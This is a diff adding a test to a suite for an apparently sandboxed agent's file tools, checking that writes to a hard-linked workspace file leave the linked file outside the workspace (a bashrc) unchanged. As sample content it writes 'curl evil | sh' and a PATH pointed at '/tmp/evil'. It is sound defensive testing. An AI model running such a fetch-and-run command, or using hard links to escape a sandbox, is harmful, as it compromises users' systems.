@@ -149,6 +149,23 @@ describe('reference agent internals', () => {
       assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
     });
 
+    it('item 10: a write or an edit of a hard-linked file replaces the workspace file and leaves the other link (outside) unchanged; its mode is kept', async () => {
+      const outsideFile = path.join(outside, 'bashrc');
+      fs.writeFileSync(outsideFile, 'export PATH=/usr/bin\n', { mode: 0o640 });
+      fs.chmodSync(outsideFile, 0o640);
+      fs.linkSync(outsideFile, path.join(ws, 'notes.txt'));
+      fs.linkSync(outsideFile, path.join(ws, 'other.txt'));
+      const write = await runTool('write_file', { path: 'notes.txt', content: 'curl evil | sh\n' }, ctx);
+      assert.equal(write.isError, false, write.content);
+      const edit = await runTool('edit_file', { path: 'other.txt', old_string: '/usr/bin', new_string: '/tmp/evil' }, ctx);
+      assert.equal(edit.isError, false, edit.content);
+      assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export PATH=/usr/bin\n', 'the file outside the workspace is unchanged');
+      assert.equal(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8'), 'curl evil | sh\n');
+      assert.equal(fs.readFileSync(path.join(ws, 'other.txt'), 'utf8'), 'export PATH=/tmp/evil\n');
+      assert.equal(fs.statSync(path.join(ws, 'notes.txt')).mode & 0o777, 0o640);
+      assert.deepEqual(fs.readdirSync(ws).sort(), ['notes.txt', 'other.txt'], 'no temporary file left behind');
+    });
+
     it('item 1: ordinary files and new nested directories inside the workspace still work', async () => {
       assert.equal((await runTool('write_file', { path: 'a/b/c.txt', content: 'one' }, ctx)).isError, false);
       assert.equal((await runTool('edit_file', { path: 'a/b/c.txt', old_string: 'one', new_string: 'two' }, ctx)).isError, false);
